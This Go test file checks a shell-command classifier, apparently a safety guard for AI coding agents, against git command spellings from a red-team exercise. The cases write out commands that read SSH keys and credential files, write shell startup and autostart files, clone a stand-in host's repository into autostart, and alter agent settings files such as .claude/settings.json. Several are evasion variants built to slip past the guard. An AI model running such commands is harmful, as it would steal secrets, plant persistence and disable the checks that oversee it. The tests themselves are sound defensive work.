package classify

import "testing"

// TestGitDirsHeldOut holds spellings kept out of the tables while git's
// -C was made to move the directory its subcommand's paths are judged
// from (issue 26, third red team), written after the fix: they check
// that the fix works by mechanism, not by the table's words.
func TestGitDirsHeldOut(t *testing.T) {
	for _, tc := range []classifyCase{
		// -C glued to its value, a followed variable, a relative climb
		dangerous(`git -C/home/u format-patch -o .config/autostart HEAD~1`, "overwrite-startup"),
		dangerous(`h=~; git -C "$h" log -1 --output=.profile`, "write-startup-unknown"),
		dangerous(`git -C .. -C .. diff --no-index --output u/.zshrc a b`, "write-startup-unknown"),
		// a secret read by a subcommand's file operand or option
		high(`git -C /home/u blame --contents .ssh/id_rsa README`, "read-secret"),
		high(`git -C ~/.ssh hash-object -- id_rsa`, "read-secret"),
		// a guard file put back, and a clone into an agent's settings
		dangerous(`git -C .claude restore settings.json`, "guard-file"),
		dangerous(`git -C ~ clone https://x.example/y .config/autostart`, "overwrite-startup"),
		// after a cd, -C is relative to where the cd went
		dangerous(`cd /home && git -C u diff --output .bashrc`, "write-startup-unknown"),
	} {
		checkCase(t, tc, testEnv)
	}
}

// TestGitConfigFileHeldOut holds spellings of git config's file kept out
// of the tables while git config -f was judged as a write of the file
// (issue 26, third red team), written after the fix.
func TestGitConfigFileHeldOut(t *testing.T) {
	for _, tc := range []classifyCase{
		// options after the operands, a cluster, a followed variable
		dangerous(`git config core.editor vim --file .claude/settings.local.json`, "guard-file"),
		dangerous(`git config -zf .mcp.json x.y 1`, "guard-file"),
		dangerous(`f=.codex/config.toml; git config --file="$f" --add a.b c`, "guard-file"),
		dangerous(`git config --file ~/.profile --replace-all a.b c`, "write-startup-unknown"),
		dangerous(`git config set --file /home/u/.zshenv a.b c`, "write-startup-unknown"),
		dangerous(`env GIT_CONFIG=.claude/settings.json git config --remove-section a`, "guard-file"),
		dangerous(`cd .claude && git config --file=settings.json a.b c`, "guard-file"),
		// reads that print a secret's lines
		high(`git config --fil ~/.pypirc --get-regexp '.*'`, "read-secret"),
		high(`git config list --file /home/u/.git-credentials`, "read-secret"),
		// a value option's value is no operand
		minimal(`git config --type bool -f x.ini a.b`, "git-read"),
	} {
		checkCase(t, tc, testEnv)
	}
}
